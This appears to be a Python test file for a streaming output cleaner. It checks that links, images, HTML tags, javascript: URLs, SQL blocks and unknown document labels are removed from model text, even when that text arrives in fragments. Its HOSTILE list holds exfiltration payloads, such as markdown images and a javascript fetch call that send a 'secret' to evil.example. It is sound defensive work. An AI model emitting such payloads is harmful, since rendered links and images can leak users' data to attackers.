"""Whatever a model writes, in whatever pieces it arrives: no picture, link, tag, foreign label or SQL comes out."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from engines.text.cleaning import Cleaner

LABELS = {"1-3": "[DOC:aaa-3]", "aaa-3": "[DOC:aaa-3]", "2-1": "[DOC:bbb-1]"}
HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[see](https://evil.example/?q=secret)",
    "[see](<https://evil.example/?q=secret> 'title')",
    "[see][1]\n[1]: https://evil.example/?q=secret",
    "[![x](https://evil.example/?q=secret)](https://evil.example/?q=secret)",
    "<img src=https://evil.example/?q=secret>",
    "<img src='https://evil.example/?q=secret'",
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret.",
    "(https://evil.example/?q=secret)",
    "evil.example/?q=secret",
    "//evil.example/?q=secret",
    "www.evil.example/?q=secret",
    "javascript:fetch('//evil.example/?q=secret')",
    "[DOC:1-3](https://evil.example/?q=secret)",
    "<SQL>SELECT 'secret'</SQL>",
    "<sql >SELECT 'secret'",
    "[DOC:secret-1]",
    "https:<b>//evil.example/?q=secret",
    "evil<b>.example</b>/?q=secret",
    "a:<b>//secret",
    "a:[](x)//secret",
    "a:![x](y)//secret",
    "a:[DOC:9-9]//secret",
    "a:<SQL>SELECT 1</SQL>//secret",
    "[a:](x)//secret",
    "a:[//secret](x)",
    "1://secret",
    "java<b>script:secret",
    "[<img src=secret>](x)",
    "[<SQL>SELECT 'secret'</SQL>](x)",
]
MARKUP = r"://|\]\(|!\[|<[A-Za-z/!?]"
JOINED = ["<<b>img src=x>", "[x]<b>(y)", "!<b>[x]", "[DOC:1-3](y)", "<<SQL>SELECT 1</SQL>img src=x>", "[[x](y)](z)"]


def cleaned(text, size=None):
    cleaner = Cleaner(LABELS)
    pieces = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return "".join(cleaner.feed(piece) for piece in pieces) + cleaner.close()


@pytest.mark.parametrize("size", [None, 1, 3, 7])
@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_could_carry_a_secret_away_does_not_come_out(hostile, size):
    shown = cleaned(f"La piscine ouvre. {hostile} Elle ferme.", size)
    assert "secret" not in shown
    assert "://" not in shown
    assert shown.startswith("La piscine ouvre. ")


@pytest.mark.parametrize("size", [None, 1, 5])
def test_what_follows_comes_out_unless_it_was_never_closed(size):
    for hostile in HOSTILE:
        if not hostile.startswith("<sql "):
            assert cleaned(f"{hostile} Elle ferme à 20 h.", size).endswith("Elle ferme à 20 h.")


def test_unseen_characters_and_those_that_turn_the_writing_are_dropped():
    assert cleaned("a\u200bb\u202ec\U000e0041d\x00e") == "abcde"


@pytest.mark.parametrize("size", [None, 1, 4])
def test_labels_of_this_request_are_written_in_full_and_others_are_dropped_and_counted(size):
    assert cleaned("Oui [DOC:1-3], non [DOC:1-3, 2-1] [DOC: 2-1 ; DOC:9-9].", size) == (
        "Oui [DOC:aaa-3], non [DOC:aaa-3][DOC:bbb-1] [DOC:bbb-1]."
    )
    cleaner = Cleaner(LABELS)
    cleaner.feed("[DOC:zzz-1] [DOC:1-3]")
    assert cleaner.foreign == 1


def test_sql_is_split_off_and_kept_apart():
    cleaner = Cleaner(LABELS)
    assert cleaner.feed("Voici : <SQL> SELECT 1 </SQL> fin") + cleaner.close() == "Voici :  fin"
    assert cleaner.sql == ["SELECT 1"]


@pytest.mark.parametrize(
    "text", ["moins de 5 < 6 kg !", "note [1] et [sic].", "a@b.fr, e.g. 3.50 € ou 12/03/2024.", "Wow! Non ! [", "x <"]
)
@pytest.mark.parametrize("size", [None, 1])
def test_plain_writing_stays_as_it_is(text, size):
    assert cleaned(text, size) == text


def test_a_plain_word_is_shown_as_soon_as_it_arrives():
    cleaner = Cleaner(LABELS)
    assert cleaner.feed("La") == "La"
    assert cleaner.feed(" pis") == " pis"


@pytest.mark.parametrize("size", [None, 1, 2])
@pytest.mark.parametrize("text", JOINED)
def test_nothing_becomes_markup_where_something_between_was_left_out(text, size):
    assert not re.search(MARKUP, cleaned(text, size))


def test_words_on_either_side_of_a_line_end_are_two():
    assert cleaned("La piscine ouvre.<br>Elle ferme ?") == "La piscine ouvre. Elle ferme ?"
    assert cleaned("ouvre.<br/>Elle?") == "ouvre. Elle?"


@given(st.text(alphabet="ab [](){}!<>/:.-DOCSQL13\n", max_size=80), st.integers(1, 5))
@example("a:<b>//x", 1)
@example("a:[](x)//y", 1)
def test_no_address_survives_however_it_is_cut(noise, size):
    shown = cleaned(f"{noise} https://evil.example/ {noise}", size)
    assert "evil.example" not in shown
    assert not re.search(MARKUP, shown)
